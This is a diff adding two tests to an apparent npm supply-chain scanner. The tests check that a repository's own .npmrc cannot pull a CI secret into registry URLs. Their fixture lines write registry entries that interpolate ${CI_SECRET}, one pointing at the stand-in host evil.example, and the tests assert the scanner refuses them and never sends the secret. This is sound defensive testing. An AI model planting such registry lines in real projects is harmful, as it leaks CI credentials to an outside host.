@@ -69,4 +69,41 @@ describe('the scanned tree is untrusted configuration: a repository .npmrc never
     expect(result.summary.verified).toBe(1);
     expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
   });
+
+  it('a repository registry that pulls a runner secret into an allowed host’s path: refused, shown as written', async () => {
+    const root = tempDir();
+    writeFileSync(
+      path.join(root, '.npmrc'),
+      'registry=https://registry.npmjs.org/${CI_SECRET}/\n@acme:registry=https://evil.example/${CI_SECRET}/\n',
+    );
+    writeLockfile(root, [{ name: s.name, version: s.version, integrity: s.integrity }]);
+    const result = await scanWith(root, [depsStage], { options: { env: { CI_SECRET: 'npm_PLANTEDsecret0123' } } });
+    const refused = result.findings.filter((f) => f.ruleId === 'CPD134').map((f) => f.evidence?.['value']);
+    expect(refused).toEqual(['https://registry.npmjs.org/${CI_SECRET}/', 'https://evil.example/${CI_SECRET}/']);
+    expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
+  });
+
+  it('online: a ${VAR} registry under the allowed one is never asked, so the secret is sent nowhere', async () => {
+    const allowed = await startServer({
+      keys: KEYS,
+      packages: [{ name: s.name, versions: [{ ...s, time: '2022-06-01T00:00:00.000Z', signatures: [s] }] }],
+    });
+    const root = tempDir();
+    writeFileSync(path.join(root, '.npmrc'), `registry=${allowed.url}\${CI_SECRET}/\n`);
+    // The user's own ~/.npmrc (outside the tree) names the allowed registry; the tree tries to go under it.
+    const userrc = path.join(tempDir(), '.npmrc');
+    writeFileSync(userrc, `registry=${allowed.url}\n`);
+    const graph = writeLockfile(root, [{ name: s.name, version: s.version, integrity: s.integrity }]);
+    const result = await scanGraphs({
+      root,
+      graphs: [graph],
+      registry: undefined,
+      policy: { allowedRegistries: [allowed.url] },
+      env: { CI_SECRET: 'npm_PLANTEDsecret0123', npm_config_userconfig: userrc },
+    });
+    expect(allowed.requests.length).toBeGreaterThan(0);
+    expect(JSON.stringify(allowed.requests)).not.toContain('npm_PLANTEDsecret0123');
+    expect(result.summary.verified).toBe(1);
+    expect(JSON.stringify(result)).not.toContain('npm_PLANTEDsecret0123');
+  });
 });
